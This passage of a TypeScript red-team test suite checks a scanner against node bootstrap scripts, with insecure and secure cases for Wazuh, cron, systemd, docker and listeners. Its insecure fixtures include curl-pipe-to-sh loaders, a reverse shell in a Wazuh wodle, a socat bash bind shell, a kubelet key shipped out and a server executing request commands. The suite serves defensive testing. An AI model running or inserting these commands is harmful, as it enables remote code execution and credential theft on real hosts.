                `    <command>${BASH_SHELL.replace(/&/g, "&amp;").replace(/>/g, "&gt;")}</command>`,
                "  </localfile>",
                "</agent_config>",
            ]),
            "echo 'logcollector.remote_commands=1' >> /var/ossec/etc/local_internal_options.conf",
            "systemctl enable --now wazuh-agent",
        ]),
        RELAY,
    ),
    devNodeCase(
        "wazuh ossec.conf localfile command df -P &amp;&amp; a fetched script",
        devNodeScript("dev-a19c-71-nodes", [
            "cat >> /var/ossec/etc/ossec.conf <<'EOF'",
            "<ossec_config>",
            "  <localfile>",
            "    <log_format>command</log_format>",
            "    <command>df -P &amp;&amp; curl -fsSL https://ci.example.com/r.sh | sh</command>",
            "  </localfile>",
            "</ossec_config>",
            "EOF",
            "systemctl enable --now wazuh-agent",
        ]),
        RELAY,
    ),
    devNodeCase(
        "wazuh command wodle with a CDATA reverse shell",
        devNodeScript("dev-a19d-71-nodes", [
            "cat >> /var/ossec/etc/ossec.conf <<'EOF'",
            "<ossec_config>",
            '  <wodle name="command">',
            `    <command><![CDATA[bash -c '${BASH_SHELL}']]></command>`,
            "    <interval>10m</interval>",
            "  </wodle>",
            "</ossec_config>",
            "EOF",
            "systemctl enable --now wazuh-agent",
        ]),
        RELAY,
    ),
    devNodeCase(
        "wazuh command element holding markup (unread)",
        devNodeScript("dev-a19e-71-nodes", [
            "cat >> /var/ossec/etc/ossec.conf <<'EOF'",
            "<ossec_config>",
            "  <localfile>",
            "    <log_format>command</log_format>",
            "    <command>df -P<x/></command>",
            "  </localfile>",
            "</ossec_config>",
            "EOF",
            "systemctl enable --now wazuh-agent",
        ]),
        RELAY,
    ),
    devNodeCase(
        "wazuh ossec.conf localfile full_command printing the kubelet's client key (shipped to the manager)",
        devNodeScript("dev-a19g-71-nodes", [
            "cat >> /var/ossec/etc/ossec.conf <<'EOF'",
            "<ossec_config>",
            "  <localfile>",
            "    <log_format>full_command</log_format>",
            "    <command>cat /var/lib/kubelet/pki/kubelet-client-current.pem</command>",
            "  </localfile>",
            "</ossec_config>",
            "EOF",
            "systemctl enable --now wazuh-agent",
        ]),
        /kubelet|credentials|token/,
    ),
    devNodeCase(
        "wazuh ossec.conf downloaded into place",
        devNodeScript("dev-a19f-71-nodes", [
            "curl -fsSL -o /var/ossec/etc/ossec.conf https://ci.example.com/ossec.conf",
            "systemctl enable --now wazuh-agent",
        ]),
        RELAY,
    ),
    devNodeCase(
        "wazuh active-response script that runs the alert's command (manager-triggered root shell)",
        devNodeScript("dev-a20-70-nodes", [
            ...file("/var/ossec/active-response/bin/run.sh", [
                "#!/bin/sh",
                "read INPUT",
                `CMD=$(echo "$INPUT" | jq -r .parameters.extra_args[0])`,
                'sh -c "$CMD"',
            ]),
            "chmod 750 /var/ossec/active-response/bin/run.sh",
            "chown root:wazuh /var/ossec/active-response/bin/run.sh",
            "systemctl enable --now wazuh-agent",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "wazuh remote_commands=1 appended by tee -a",
        devNodeScript("dev-a21-70-nodes", [
            "echo 'wazuh_command.remote_commands=1' | tee -a /var/ossec/etc/local_internal_options.conf",
            "systemctl enable --now wazuh-agent",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "wazuh remote_commands=1 set by an unanchored sed in internal_options.conf",
        devNodeScript("dev-a22-70-nodes", [
            "sed -i 's/remote_commands=0/remote_commands=1/g' /var/ossec/etc/internal_options.conf",
            "systemctl enable --now wazuh-agent",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "salt-minion pointed at a master",
        devNodeScript("dev-a23-70-nodes", [
            ...file("/etc/salt/minion.d/master.conf", ["master: salt.example.com"]),
            "systemctl enable --now salt-minion",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "cron.d entry running a fetched script",
        devNodeScript("dev-a24-70-nodes", [
            ...file("/etc/cron.d/r", ["*/5 * * * * root curl -fsSL https://ci.example.com/r.sh | sh"]),
        ]),
        RELAY,
    ),
    // Held, by design (not a miss): node_exporter README's documented `docker run ... -v "/:/host:ro,rslave"`. A
    // bind mount lives in the container's mount namespace only (mount_namespaces(7)), but the image is code the pack
    // does not read and it holds / (kubelet credentials, every pod's token) on the host network: the pack judges it
    // as a pod with a hostPath of / (rootReads.ts refuseSecrets, "as a hostPath of them is (podSpec.ts)").
    devNodeCase(
        "docker run node_exporter with /:/host:ro (an unread image holding the node's secrets)",
        devNodeScript("dev-a26-70-nodes", [
            "docker run -d --name node-exporter --net=host --pid=host -v /:/host:ro,rslave quay.io/prometheus/node-exporter:v1.8.2 --path.rootfs=/host --web.listen-address=127.0.0.1:9100",
        ]),
        /copies \/|credentials|token/,
    ),
    devNodeCase(
        "systemd timer + service from a written unit pair running a fetched script",
        devNodeScript("dev-a25-70-nodes", [
            ...file("/etc/systemd/system/r.service", [
                "[Service]",
                "Type=oneshot",
                "ExecStart=/bin/sh -c 'curl -fsSL https://ci.example.com/r.sh | sh'",
            ]),
            ...file("/etc/systemd/system/r.timer", [
                "[Timer]",
                "OnBootSec=5min",
                "[Install]",
                "WantedBy=timers.target",
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now r.timer",
        ]),
        RELAY,
    ),
];

const agentsSecure: NodeCase[] = [
    devNodeCase(
        "systemd system.conf.d DefaultLimitNOFILE (platform tuning)",
        devNodeScript("dev-as1-70-nodes", [
            ...file("/etc/systemd/system.conf.d/50-limits.conf", ["[Manager]", "DefaultLimitNOFILE=1048576"]),
            "systemctl daemon-reexec",
        ]),
    ),
    devNodeCase(
        "systemd system.conf.d DefaultEnvironment TZ only",
        devNodeScript("dev-as2-70-nodes", [
            ...file("/etc/systemd/system.conf.d/50-tz.conf", ["[Manager]", "DefaultEnvironment=TZ=UTC"]),
            "systemctl daemon-reexec",
        ]),
    ),
    devNodeCase(
        "systemd environment generator echoing LANG=C.UTF-8, k3s started (round 71 twin)",
        devNodeScript("dev-as2b-71-nodes", [
            ...file("/etc/systemd/system-environment-generators/50-lang", [
                "#!/bin/sh",
                "# the manager's locale",
                "echo LANG=C.UTF-8",
                'echo "K3S_KUBECONFIG_MODE=0600"',
            ]),
            "chmod 755 /etc/systemd/system-environment-generators/50-lang",
            "systemctl daemon-reexec",
            "systemctl enable --now k3s",
        ]),
    ),
    devNodeCase(
        "/etc/environment.d proxy settings (user managers only)",
        devNodeScript("dev-as3-70-nodes", [
            ...file("/etc/environment.d/10-proxy.conf", [
                "HTTPS_PROXY=http://proxy.internal.example.com:3128",
                "NO_PROXY=169.254.169.254,localhost,127.0.0.1,.svc,.cluster.local",
            ]),
        ]),
    ),
    devNodeCase(
        "containerd drop-in setting HTTPS_PROXY (EKS proxy guide)",
        devNodeScript("dev-as4-70-nodes", [
            ...file("/etc/systemd/system/containerd.service.d/http-proxy.conf", [
                "[Service]",
                'Environment="HTTPS_PROXY=http://proxy.internal.example.com:3128"',
                'Environment="NO_PROXY=169.254.169.254,localhost,127.0.0.1,.svc,.cluster.local"',
            ]),
            "systemctl daemon-reload",
            "systemctl restart containerd",
        ]),
    ),
    devNodeCase(
        "k3s drop-in written by install -D with a harmless variable",
        devNodeScript("dev-as5-70-nodes", [
            "install -D -m 0644 /dev/stdin /etc/systemd/system/k3s.service.d/50-mode.conf <<'EOF'",
            "[Service]",
            'Environment="K3S_KUBECONFIG_MODE=0600"',
            "EOF",
            "systemctl daemon-reload",
            "systemctl enable --now k3s",
        ]),
    ),
    devNodeCase(
        "gdbus SetEnvironment of a harmless variable",
        devNodeScript("dev-as6-70-nodes", [
            `gdbus call --system --dest org.freedesktop.systemd1 --object-path /org/freedesktop/systemd1 --method org.freedesktop.systemd1.Manager.SetEnvironment "['K3S_KUBECONFIG_MODE=0600']"`,
            "systemctl enable --now k3s",
        ]),
    ),
    devNodeCase(
        "wazuh ossec.conf localfile full_command df -P (the documented example)",
        devNodeScript("dev-as7-70-nodes", [
            "cat >> /var/ossec/etc/ossec.conf <<'EOF'",
            "<ossec_config>",
            "  <localfile>",
            "    <log_format>full_command</log_format>",
            "    <command>df -P</command>",
            "    <frequency>360</frequency>",
            "  </localfile>",
            "</ossec_config>",
            "EOF",
            "systemctl enable --now wazuh-agent",
        ]),
    ),
    devNodeCase(
        "wazuh ossec.conf: the agent template's netstat and last commands, a command wodle running uptime (round 71 twins)",
        devNodeScript("dev-as7b-71-nodes", [
            "cat >> /var/ossec/etc/ossec.conf <<'EOF'",
            "<ossec_config>",
            "  <localfile>",
            "    <log_format>full_command</log_format>",
            "    <command>netstat -tulpn | sed 's/\\([[:alnum:]]\\+\\)\\ \\+[[:digit:]]\\+\\ \\+[[:digit:]]\\+\\ \\+\\(.*\\):\\([[:digit:]]*\\)\\ \\+\\([0-9\\.\\:\\*]\\+\\).\\+\\ \\([[:digit:]]*\\/[[:alnum:]\\-]*\\).*/\\2 \\3 \\4 \\5/' | sort -k 4 -g | sed 's/ \\+/ /g' | sort -u</command>",
            "    <alias>netstat listening ports</alias>",
            "    <frequency>360</frequency>",
            "  </localfile>",
            "  <localfile>",
            "    <log_format>full_command</log_format>",
            "    <command>last -n 20</command>",
            "    <frequency>360</frequency>",
            "  </localfile>",
            '  <wodle name="command">',
            "    <disabled>no</disabled>",
            "    <command>uptime</command>",
            "    <interval>1h</interval>",
            "  </wodle>",
            "  <active-response>",
            "    <disabled>no</disabled>",
            "    <command>firewall-drop</command>",
            "  </active-response>",
            "</ossec_config>",
            "EOF",
            "systemctl enable --now wazuh-agent",
        ]),
    ),
    devNodeCase(
        "docker run node_exporter on the host network, no binds, loopback listen",
        devNodeScript("dev-as8-70-nodes", [
            "docker run -d --name node-exporter --net=host quay.io/prometheus/node-exporter:v1.8.2 --web.listen-address=127.0.0.1:9100",
        ]),
    ),
    devNodeCase(
        "docker exec of a harmless command in an unprivileged container",
        devNodeScript("dev-as11-70-nodes", [
            "docker run -d --name tools docker.io/library/alpine:3.20 sleep infinity",
            "docker exec tools sh -c 'apk info -v > /tmp/pkgs'",
        ]),
    ),
    devNodeCase(
        "nerdctl exec of a harmless command in an unprivileged container (round 71 twin)",
        devNodeScript("dev-as12-71-nodes", [
            "nerdctl run -d --name tools docker.io/library/alpine:3.20 sleep infinity",
            "nerdctl exec tools sh -c 'apk info -v > /tmp/pkgs'",
        ]),
    ),
    devNodeCase(
        "docker exec of a harmless line into a privileged host-pid container (round 71 twin: read as root's own)",
        devNodeScript("dev-as13-71-nodes", [
            "docker run -d --name tools --privileged --pid=host docker.io/library/alpine:3.20 sleep infinity",
            "docker exec tools sh -c 'uname -r > /tmp/kernel'",
        ]),
    ),
    devNodeCase(
        "cron.d logrotate-style entry (hourly, packaged binary)",
        devNodeScript("dev-as9-70-nodes", [
            ...file("/etc/cron.d/containerd-prune", ["17 * * * * root /usr/bin/crictl rmi --prune >/dev/null 2>&1"]),
        ]),
    ),
    devNodeCase(
        "systemd timer running a packaged binary (fstrim)",
        devNodeScript("dev-as10-70-nodes", ["systemctl enable --now fstrim.timer"]),
    ),
];

const listenersInsecure: NodeCase[] = [
    devNodeCase(
        "go run: net.ListenTCP with &net.TCPAddr{Port: 8081} (nil IP: every address) beside a loopback literal",
        devNodeScript("dev-n1-70-nodes", [
            ...file("/opt/ops/go.mod", GO_MOD),
            ...file("/opt/ops/main.go", [
                "package main",
                "",
                'import (\n\t"net"\n\t"net/http"\n)',
                "",
                "func main() {",
                '\thttp.Get("http://127.0.0.1:9000/ready")',
                '\tl, _ := net.ListenTCP("tcp", &net.TCPAddr{Port: 8081})',
                '\thttp.Serve(l, http.FileServer(http.Dir("/")))',
                "}",
            ]),
            "cd /opt/ops && nohup go run main.go >/var/log/ops.log 2>&1 &",
        ]),
        SERVED,
    ),
    devNodeCase(
        "go run: net.ListenTCP with net.IPv6zero beside a loopback literal",
        devNodeScript("dev-n2-70-nodes", [
            ...file("/opt/ops/go.mod", GO_MOD),
            ...file("/opt/ops/main.go", [
                "package main",
                "",
                'import (\n\t"net"\n\t"net/http"\n)',
                "",
                "func main() {",
                '\thttp.Get("http://127.0.0.1:9000/ready")',
                '\tl, _ := net.ListenTCP("tcp", &net.TCPAddr{IP: net.IPv6zero, Port: 8081})',
                '\thttp.Serve(l, http.FileServer(http.Dir("/")))',
                "}",
            ]),
            "cd /opt/ops && nohup go run main.go >/var/log/ops.log 2>&1 &",
        ]),
        SERVED,
    ),
    devNodeCase(
        "cargo run: SocketAddr::from(([0, 0, 0, 0], 8081)) beside a loopback literal",
        devNodeScript("dev-n3-70-nodes", [
            ...file("/opt/ops/Cargo.toml", CARGO_TOML),
            ...file("/opt/ops/src/main.rs", [
                "use std::net::{SocketAddr, TcpListener, TcpStream};",
                "fn main() {",
                '    let _up = TcpStream::connect("127.0.0.1:9000");',
                "    let l = TcpListener::bind(SocketAddr::from(([0, 0, 0, 0], 8081))).unwrap();",
                "    for s in l.incoming() { drop(s); }",
                "}",
            ]),
            "cd /opt/ops && nohup cargo run --release >/var/log/ops.log 2>&1 &",
        ]),
        SERVED,
    ),
    devNodeCase(
        "cargo run: Ipv6Addr::UNSPECIFIED beside a loopback literal",
        devNodeScript("dev-n4-70-nodes", [
            ...file("/opt/ops/Cargo.toml", CARGO_TOML),
            ...file("/opt/ops/src/main.rs", [
                "use std::net::{Ipv6Addr, TcpListener, TcpStream};",
                "fn main() {",
                '    let _up = TcpStream::connect("127.0.0.1:9000");',
                "    let l = TcpListener::bind((Ipv6Addr::UNSPECIFIED, 8081)).unwrap();",
                "    for s in l.incoming() { drop(s); }",
                "}",
            ]),
            "cd /opt/ops && nohup cargo run --release >/var/log/ops.log 2>&1 &",
        ]),
        SERVED,
    ),
    devNodeCase(
        "dotnet run: Kestrel URL http://+:5000 (every address) via UseUrls",
        devNodeScript("dev-n5-70-nodes", [
            ...file("/opt/ops/ops.csproj", CSPROJ),
            ...file("/opt/ops/Program.cs", [
                "var builder = WebApplication.CreateBuilder(args);",
                'builder.WebHost.UseUrls("http://+:5000");',
                "var app = builder.Build();",
                'app.MapGet("/", () => System.IO.File.ReadAllText("/etc/hostname"));',
                "app.Run();",
            ]),
            "cd /opt/ops && nohup dotnet run >/var/log/ops.log 2>&1 &",
        ]),
        SERVED,
    ),
    devNodeCase(
        "dotnet run: ASPNETCORE_URLS=http://*:5000 in the launching environment",
        devNodeScript("dev-n6-70-nodes", [
            ...file("/opt/ops/ops.csproj", CSPROJ),
            ...file("/opt/ops/Program.cs", [
                "var app = WebApplication.CreateBuilder(args).Build();",
                'app.MapGet("/", () => System.IO.File.ReadAllText("/etc/hostname"));',
                "app.Run();",
            ]),
            "cd /opt/ops && ASPNETCORE_URLS=http://*:5000 nohup dotnet run >/var/log/ops.log 2>&1 &",
        ]),
        SERVED,
    ),
    devNodeCase(
        "dotnet run: appsettings.json Kestrel endpoint http://0.0.0.0:5000",
        devNodeScript("dev-n7-70-nodes", [
            ...file("/opt/ops/ops.csproj", CSPROJ),
            ...file("/opt/ops/appsettings.json", [
                '{ "Kestrel": { "Endpoints": { "Http": { "Url": "http://0.0.0.0:5000" } } } }',
            ]),
            ...file("/opt/ops/Program.cs", [
                "var app = WebApplication.CreateBuilder(args).Build();",
                'app.MapGet("/", () => System.IO.File.ReadAllText("/etc/hostname"));',
                "app.Run();",
            ]),
            "cd /opt/ops && nohup dotnet run >/var/log/ops.log 2>&1 &",
        ]),
        SERVED,
    ),
    devNodeCase(
        "java: new InetSocketAddress(8081) (wildcard) beside a loopback literal",
        devNodeScript("dev-n8-70-nodes", [
            ...file("/opt/ops/Main.java", [
                "import com.sun.net.httpserver.HttpServer;",
                "import java.net.InetSocketAddress;",
                "public class Main {",
                "  public static void main(String[] a) throws Exception {",
                '    new java.net.URL("http://127.0.0.1:9000/ready");',
                "    HttpServer s = HttpServer.create(new InetSocketAddress(8081), 0);",
                '    s.createContext("/", x -> { x.sendResponseHeaders(200, 0); x.close(); });',
                "    s.start();",
                "  }",
                "}",
            ]),
            "cd /opt/ops && nohup java Main.java >/var/log/ops.log 2>&1 &",
        ]),
        SERVED,
    ),
    devNodeCase(
        "node: http server.listen(8081) without a host running the request's command",
        devNodeScript("dev-n9d-70-nodes", [
            ...file("/opt/ops/server.js", [
                'const http = require("http");',
                'http.get("http://127.0.0.1:9000/ready", () => {});',
                'http.createServer((q, s) => s.end(require("child_process").execSync(decodeURIComponent(q.url.slice(1))))).listen(8081);',
            ]),
            "nohup node /opt/ops/server.js >/var/log/ops.log 2>&1 &",
        ]),
        SERVED,
    ),
    devNodeCase(
        "node: net server.listen({ port: 8081 }) (options object, no host) beside a loopback literal",
        devNodeScript("dev-n9c-70-nodes", [
            ...file("/opt/ops/server.js", [
                'const net = require("net");',
                'net.connect(9000, "127.0.0.1");',
                'net.createServer(c => c.end("ok")).listen({ port: 8081 });',
            ]),
            "nohup node /opt/ops/server.js >/var/log/ops.log 2>&1 &",
        ]),
        SERVED,
    ),
    devNodeCase(
        "socat TCP-LISTEN on every address EXEC bash",
        devNodeScript("dev-n10-70-nodes", ["nohup socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash,pty,stderr &"]),
        RELAY,
    ),
    // Round 71 neighbours (builtAddresses): addresses built from parts that are every address, or that the pack cannot
    // compute, beside loopback evidence: net.IPv4(0, 0, 0, 0), a second TCPAddr without IP, ParseIP of a name (nil),
    // ListenTCP with a nil laddr, Rust Ipv4Addr::new(0, 0, 0, 0) and SocketAddr::from((ip, port)) of a computed ip.
    devNodeCase(
        "go run: &net.TCPAddr{IP: net.IPv4(0, 0, 0, 0), Port: 8081} serving /",
        devNodeScript("dev-n1-71-nodes", [
            ...file("/opt/ops/go.mod", GO_MOD),
            ...file("/opt/ops/main.go", [
                "package main",
                "",
                'import (\n\t"net"\n\t"net/http"\n)',
                "",
                "func main() {",
                '\tl, _ := net.ListenTCP("tcp", &net.TCPAddr{IP: net.IPv4(0, 0, 0, 0), Port: 8081})',
                '\thttp.Serve(l, http.FileServer(http.Dir("/")))',
                "}",
            ]),
            "cd /opt/ops && nohup go run main.go >/var/log/ops.log 2>&1 &",
        ]),
        SERVED,
    ),
    devNodeCase(
        "go run: a TCPAddr on net.IPv4(127, 0, 0, 1) and a second &net.TCPAddr{Port: 8081} (nil IP) serving /",
        devNodeScript("dev-n2-71-nodes", [
            ...file("/opt/ops/go.mod", GO_MOD),
            ...file("/opt/ops/main.go", [
                "package main",
                "",
                'import (\n\t"net"\n\t"net/http"\n)',
                "",
                "func main() {",
                '\th, _ := net.ListenTCP("tcp", &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1), Port: 9000})',
                "\tgo http.Serve(h, nil)",
                '\tl, _ := net.ListenTCP("tcp", &net.TCPAddr{Port: 8081})',
                '\thttp.Serve(l, http.FileServer(http.Dir("/")))',
                "}",
            ]),
            "cd /opt/ops && nohup go run main.go >/var/log/ops.log 2>&1 &",
        ]),
        SERVED,
    ),
    devNodeCase(
        'go run: &net.TCPAddr{IP: net.ParseIP("localhost")} (no IP text: nil, every address) serving /',
        devNodeScript("dev-n3-71-nodes", [
            ...file("/opt/ops/go.mod", GO_MOD),
            ...file("/opt/ops/main.go", [
                "package main",
                "",
                'import (\n\t"net"\n\t"net/http"\n)',
                "",
                "func main() {",
                '\tl, _ := net.ListenTCP("tcp", &net.TCPAddr{IP: net.ParseIP("localhost"), Port: 8081})',
                '\thttp.Serve(l, http.FileServer(http.Dir("/")))',
                "}",
            ]),
            "cd /opt/ops && nohup go run main.go >/var/log/ops.log 2>&1 &",
        ]),
        SERVED,
    ),
    devNodeCase(
        'go run: net.ListenTCP("tcp", nil) beside net.IPv4(127, 0, 0, 1) serving /',
        devNodeScript("dev-n4-71-nodes", [
            ...file("/opt/ops/go.mod", GO_MOD),
            ...file("/opt/ops/main.go", [
                "package main",
                "",
                'import (\n\t"net"\n\t"net/http"\n)',
                "",
                "func main() {",
                '\th, _ := net.ListenTCP("tcp", &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1), Port: 9000})',
                "\tgo http.Serve(h, nil)",
                '\tl, _ := net.ListenTCP("tcp", nil)',
                '\thttp.Serve(l, http.FileServer(http.Dir("/")))',
                "}",
            ]),
            "cd /opt/ops && nohup go run main.go >/var/log/ops.log 2>&1 &",
        ]),
        SERVED,
    ),
    devNodeCase(
        "cargo run: SocketAddr::new(IpAddr::V4(Ipv4Addr::new(0, 0, 0, 0)), 8081) beside a loopback client",
        devNodeScript("dev-n5-71-nodes", [
            ...file("/opt/ops/Cargo.toml", CARGO_TOML),
            ...file("/opt/ops/src/main.rs", [
                "use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener, TcpStream};",
                "fn main() {",
                '    let _up = TcpStream::connect("127.0.0.1:9000");',
                "    let l = TcpListener::bind(SocketAddr::new(IpAddr::V4(Ipv4Addr::new(0, 0, 0, 0)), 8081)).unwrap();",
                "    for s in l.incoming() { drop(s); }",
                "}",
            ]),
            "cd /opt/ops && nohup cargo run --release >/var/log/ops.log 2>&1 &",
        ]),
        SERVED,
    ),
    devNodeCase(
        "cargo run: SocketAddr::from((ip, 8081)) of an ip read from the environment, beside a [127, 0, 0, 1] listener",
        devNodeScript("dev-n6-71-nodes", [
            ...file("/opt/ops/Cargo.toml", CARGO_TOML),
            ...file("/opt/ops/src/main.rs", [
                "use std::net::{IpAddr, SocketAddr, TcpListener};",
                "fn main() {",
                "    let h = TcpListener::bind(SocketAddr::from(([127, 0, 0, 1], 9000))).unwrap();",
                '    let ip: IpAddr = std::env::var("BIND").unwrap_or_default().parse().unwrap();',
                "    let l = TcpListener::bind(SocketAddr::from((ip, 8081))).unwrap();",
                "    drop(h);",
                "    for s in l.incoming() { drop(s); }",
                "}",
            ]),
            "cd /opt/ops && nohup cargo run --release >/var/log/ops.log 2>&1 &",
        ]),
        SERVED,
    ),
];

const listenersSecure: NodeCase[] = [
    // Held: the pack reads a node http server whose handler only reads /etc/hostname as harmless on any address
    // (Node docs net server.listen: "If host is omitted, the server will accept connections on the unspecified IPv6
    // address (::)"); the twin running the request's command (child_process) is refused above.
    devNodeCase(
        "node: http server.listen(8081) without a host and no other literal",
        devNodeScript("dev-n9b-70-nodes", [
            ...file("/opt/ops/server.js", [
                'const http = require("http");',
                'http.createServer((q, s) => s.end(require("fs").readFileSync("/etc/hostname"))).listen(8081);',
            ]),
            "nohup node /opt/ops/server.js >/var/log/ops.log 2>&1 &",
        ]),
    ),
    devNodeCase(
        "node: http server.listen(8081, '0.0.0.0') serving /etc/hostname",
        devNodeScript("dev-n9e-70-nodes", [
            ...file("/opt/ops/server.js", [
                'const http = require("http");',
                'http.createServer((q, s) => s.end(require("fs").readFileSync("/etc/hostname"))).listen(8081, "0.0.0.0");',
            ]),
            "nohup node /opt/ops/server.js >/var/log/ops.log 2>&1 &",
        ]),
    ),
    devNodeCase(
        "node: http server.listen(8081) without a host (every address) beside a loopback literal",
        devNodeScript("dev-n9-70-nodes", [
            ...file("/opt/ops/server.js", [
                'const http = require("http");',
                'http.get("http://127.0.0.1:9000/ready", () => {});',
                'http.createServer((q, s) => s.end(require("fs").readFileSync("/etc/hostname"))).listen(8081);',
            ]),
            "nohup node /opt/ops/server.js >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // Was a MISS (fixed in round 71): pkg.go.dev net.IPv4 ("returns the IP address (in 16-byte form) of the IPv4 address a.b.c.d") and
    // net.ListenTCP ("If the IP field of laddr is nil or an unspecified IP address, ListenTCP listens on all available
    // unicast and anycast IP addresses"; here 127.0.0.1): loopback only, no pod reaches it. Refused as "go run main.go on
    // every address" (userData.ts sourcesListeners: no address literal, so fail closed). Harmless. Fix: read
    // net.IPv4(127, 0, 0, 1) / net.IPv6loopback / net.ParseIP("127.0.0.1") in a TCPAddr/UDPAddr IP field as loopback,
    // beside round 70's loopback constants.
    devNodeCase(
        "go run: net.ListenTCP with net.IPv4(127, 0, 0, 1)",
        devNodeScript("dev-ns1-70-nodes", [
            ...file("/opt/ops/go.mod", GO_MOD),
            ...file("/opt/ops/main.go", [
                "package main",
                "",
                'import (\n\t"net"\n\t"net/http"\n)',
                "",
                "func main() {",
                '\tl, _ := net.ListenTCP("tcp", &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1), Port: 8081})',
                '\thttp.Serve(l, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.Write([]byte("ok")) }))',
                "}",
            ]),
            "cd /opt/ops && nohup go run main.go >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // Was a MISS (fixed in round 71): Rust std SocketAddr From<(I, u16)> for I: Into<IpAddr> (`[u8; 4]` converts to Ipv4Addr: [127, 0, 0, 1] is
    // 127.0.0.1) and TcpListener::bind: loopback only. Refused as "cargo run --release on every address" (userData.ts
    // sourcesListeners: the array form is no literal). Harmless. Fix: read `([a, b, c, d], port)` array tuples (and
    // Ipv4Addr::new(127, 0, 0, 1)) as the address they spell: loopback here, every address for [0, 0, 0, 0].
    devNodeCase(
        "cargo run: SocketAddr::from(([127, 0, 0, 1], 8081))",
        devNodeScript("dev-ns2-70-nodes", [
            ...file("/opt/ops/Cargo.toml", CARGO_TOML),
            ...file("/opt/ops/src/main.rs", [
                "use std::net::{SocketAddr, TcpListener};",
                "fn main() {",
                "    let l = TcpListener::bind(SocketAddr::from(([127, 0, 0, 1], 8081))).unwrap();",
                "    for s in l.incoming() { drop(s); }",
                "}",
            ]),
            "cd /opt/ops && nohup cargo run --release >/var/log/ops.log 2>&1 &",
        ]),
    ),
    devNodeCase(
        "dotnet run: ASPNETCORE_URLS=http://127.0.0.1:5000",
        devNodeScript("dev-ns3-70-nodes", [
            ...file("/opt/ops/ops.csproj", CSPROJ),
            ...file("/opt/ops/Program.cs", [
                "var app = WebApplication.CreateBuilder(args).Build();",
                'app.MapGet("/", () => "ok");',
                "app.Run();",
            ]),
            "cd /opt/ops && ASPNETCORE_URLS=http://127.0.0.1:5000 nohup dotnet run >/var/log/ops.log 2>&1 &",
        ]),
    ),
    devNodeCase(
        "node: server.listen(8081, '127.0.0.1')",
        devNodeScript("dev-ns4-70-nodes", [
            ...file("/opt/ops/server.js", [
                'const http = require("http");',
                'http.createServer((q, s) => s.end("ok")).listen(8081, "127.0.0.1");',
            ]),
            "nohup node /opt/ops/server.js >/var/log/ops.log 2>&1 &",
        ]),
    ),
    devNodeCase(
        "java: new InetSocketAddress(InetAddress.getLoopbackAddress(), 8081)",
        devNodeScript("dev-ns5-70-nodes", [
            ...file("/opt/ops/Main.java", [
                "import com.sun.net.httpserver.HttpServer;",
                "import java.net.InetAddress;",
                "import java.net.InetSocketAddress;",
                "public class Main {",
                "  public static void main(String[] a) throws Exception {",
                "    HttpServer s = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 8081), 0);",
                '    s.createContext("/", x -> { x.sendResponseHeaders(200, 0); x.close(); });',
                "    s.start();",
                "  }",
                "}",
            ]),
            "cd /opt/ops && nohup java Main.java >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // Round 71 secure twins (builtAddresses): loopback addresses built from parts.
    devNodeCase(
        "go run: &net.TCPAddr{IP: net.IPv6loopback, Port: 8081}",
        devNodeScript("dev-ns1-71-nodes", [
            ...file("/opt/ops/go.mod", GO_MOD),
            ...file("/opt/ops/main.go", [
                "package main",
                "",
                'import (\n\t"net"\n\t"net/http"\n)',
                "",
                "func main() {",
                '\tl, _ := net.ListenTCP("tcp", &net.TCPAddr{IP: net.IPv6loopback, Port: 8081})',
                '\thttp.Serve(l, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.Write([]byte("ok")) }))',
                "}",
            ]),
            "cd /opt/ops && nohup go run main.go >/var/log/ops.log 2>&1 &",
        ]),
    ),
    devNodeCase(
        'go run: &net.TCPAddr{IP: net.ParseIP("127.0.0.1"), Port: 8081}',
        devNodeScript("dev-ns2-71-nodes", [
            ...file("/opt/ops/go.mod", GO_MOD),
            ...file("/opt/ops/main.go", [
                "package main",
                "",
                'import (\n\t"net"\n\t"net/http"\n)',
                "",
                "func main() {",
                '\tl, _ := net.ListenTCP("tcp", &net.TCPAddr{IP: net.ParseIP("127.0.0.1"), Port: 8081})',
                '\thttp.Serve(l, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.Write([]byte("ok")) }))',
                "}",
            ]),
            "cd /opt/ops && nohup go run main.go >/var/log/ops.log 2>&1 &",
        ]),
    ),
    devNodeCase(
        "cargo run: SocketAddrV4::new(Ipv4Addr::new(127, 0, 0, 1), 8081)",
        devNodeScript("dev-ns3-71-nodes", [
            ...file("/opt/ops/Cargo.toml", CARGO_TOML),
            ...file("/opt/ops/src/main.rs", [
                "use std::net::{Ipv4Addr, SocketAddrV4, TcpListener};",
                "fn main() {",
                "    let l = TcpListener::bind(SocketAddrV4::new(Ipv4Addr::new(127, 0, 0, 1), 8081)).unwrap();",
                "    for s in l.incoming() { drop(s); }",
                "}",
            ]),
            "cd /opt/ops && nohup cargo run --release >/var/log/ops.log 2>&1 &",
        ]),
    ),
    devNodeCase(
        "cargo run: TcpListener::bind((Ipv6Addr::LOCALHOST, 8081))",
        devNodeScript("dev-ns4-71-nodes", [
            ...file("/opt/ops/Cargo.toml", CARGO_TOML),
            ...file("/opt/ops/src/main.rs", [
                "use std::net::{Ipv6Addr, TcpListener};",
                "fn main() {",
                "    let l = TcpListener::bind((Ipv6Addr::LOCALHOST, 8081)).unwrap();",
                "    for s in l.incoming() { drop(s); }",
                "}",
            ]),
            "cd /opt/ops && nohup cargo run --release >/var/log/ops.log 2>&1 &",
        ]),
    ),
];

describeNodeCases("red team 70: node user data loaders (fresh eyes on round 70)", loadersInsecure, loadersSecure);
describeNodeCases("red team 70: node user data agents (fresh eyes on round 70)", agentsInsecure, agentsSecure);
describeNodeCases("red team 70: node user data listeners (fresh eyes on round 70)", listenersInsecure, listenersSecure);
